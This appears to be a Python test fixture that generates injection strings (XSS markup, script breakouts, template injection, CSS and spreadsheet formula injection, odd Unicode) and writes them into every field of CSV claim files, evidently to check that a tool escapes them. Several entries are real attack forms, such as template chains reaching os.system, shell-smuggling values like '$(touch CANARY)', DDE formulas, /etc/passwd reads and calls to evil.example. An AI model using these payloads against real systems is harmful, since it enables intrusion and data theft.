"""Text that tries to become code: templates, scripts, markup, styles, spreadsheets."""

from __future__ import annotations

import csv
from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    from pathlib import Path

#: Set by a payload that runs in a page; nothing else writes it.
MARK: Final = "window.__ran=1"
_RUN: Final = (MARK, "window['__ran']=1", "top.__ran=1", "(()=>{__ran=1})()")

_MARKUP: Final = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</textarea><script>{}</script>",
    "</noscript><script>{}</script>",
    "--><script>{}</script>",
    "<!--<script>{}</script>-->",
    "<!--<script>",
    "]]><script>{}</script>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'>",
    '"><img src=x onerror="{}">',
    "'><img src=x onerror='{}'>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "</svg><script>{}</script>",
    "</table><script>{}</script>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src='javascript:{}'></iframe>",
    "<a href='javascript:{}'>x</a>",
    "<details open ontoggle={}>",
    "<body onload={}>",
    "<math><mi xlink:href='javascript:{}'>",
    "<object data='data:text/html,<script>{}</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='javascript:{}//'>",
    "<form action='javascript:{}'><button>",
    "<input autofocus onfocus={}>",
    "<template><script>{}</script></template>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<style onload={}></style>",
    "<link rel=stylesheet href=x onerror={}>",
    "<select autofocus onfocus={}>",
    "<div popover id=x onbeforetoggle={}>",
    "<svg><use href='data:image/svg+xml,<svg onload={}>'/></svg>",
    "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>",
    "<embed src='javascript:{}'>",
    "<div style='animation-name:x' onanimationstart={}>",
    "' onmouseover='{}' x='",
    '" onmouseover="{}" x="',
)
_SCRIPT: Final = (
    "';{};'",
    '";{};"',
    "`;{};`",
    "${{{}}}",
    "`${{{}}}`",
    "\\';{};//",
    '\\";{};//',
    "*/{}/*",
    "\u2028{}\u2028",
    "\u2029{}\u2029",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
)
_TEMPLATE: Final = (
    "{{7*7}}",
    "{{ cycler.__init__.__globals__.os.system('touch CANARY') }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self.__init__.__globals__.__builtins__.open('CANARY','w') }}",
    "{{ config }}",
    "{{ lipsum.__globals__['os'].popen('touch CANARY').read() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{% set x = 7*7 %}{{x}}",
    "{% include '/etc/passwd' %}",
    "{# comment #}",
    "{% raw %}",
    "{% endraw %}{{7*7}}",
    "{{",
    "}}",
    "{%",
    "%}",
    "{0}",
    "{origin}",
    "{n}",
    "{origin.__class__}",
    "%(x)s",
    "%s%s%s%n",
    "$x ${x}",
    "<%= 7*7 %>",
    "#{7*7}",
    "__import__('os').system('touch CANARY')",
    "exec(\"open('CANARY','w')\")",
    "!!python/object/apply:os.system ['touch CANARY']",
    "$(touch CANARY)",
    "`touch CANARY`",
    "; touch CANARY #",
    "| touch CANARY",
    "\\N{BULLET}\\x41\\u0041",
)
_STYLE: Final = (
    "</style><style>*{display:none}",
    "x;}*{display:none}",
    "expression(alert(1))",
    "url(https://evil.example/x)",
    "@import 'https://evil.example/x.css'",
    "</style><link rel=stylesheet href=https://evil.example/x.css>",
)
_FORMULA: Final = (
    "=1+1",
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    '=WEBSERVICE("https://evil.example")',
)
_ODD: Final = (
    "\u202egnp.exe",
    "\u2066isolated\u2069",
    "\u200f\u200ex",
    "مرحبا",
    "\ufeffbom",
    "zero\u200bwidth",
    "combining e\u0301\u0301\u0301",
    "emoji 🧭🏭",
    "\x1b[31mred\x1b[0m",
    "bell\x07",
    "quote \"double\" 'single' `back`",
    "back\\slash \\n \\t",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&amp;amp;",
    "%3Cscript%3E",
    "../../../etc/passwd",
    "C:\\Windows\\System32",
    "null",
    "undefined",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
)

STRINGS: Final = tuple(
    dict.fromkeys(
        [text.replace("{}", run) for text in _MARKUP for run in _RUN[:3]]
        + [text.replace("{}", MARK).replace("{{", "{").replace("}}", "}") for text in _SCRIPT]
        + [*_TEMPLATE, *_STYLE, *_FORMULA, *_ODD]
    )
)


_TEXTS = ("attributed_to", "count_text", "summary", "note", "employer", "sector", "anchor_basis")


def write_claims(path: Path) -> None:
    """Write a folder of claims with every string in every text field."""
    path.mkdir()
    titles = [{"source_id": f"s{i}", "title": t, "publisher": t} for i, t in enumerate(STRINGS)]
    rows = [
        {"claim_id": f"c{i}", "source_id": f"s{i}", "origin_id": "KP", "dest_id": "gn2036653"}
        | {"people_best": str(100 + i), "period": f"{1900 + i % 120}", "origin_name": text}
        | {"dest_name": text}
        | dict.fromkeys(_TEXTS, text)
        for i, text in enumerate(STRINGS)
    ]
    for name, table in (("claims", rows), ("sources", titles)):
        with (path / f"{name}.csv").open("w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, list(table[0]))
            writer.writeheader()
            writer.writerows(table)
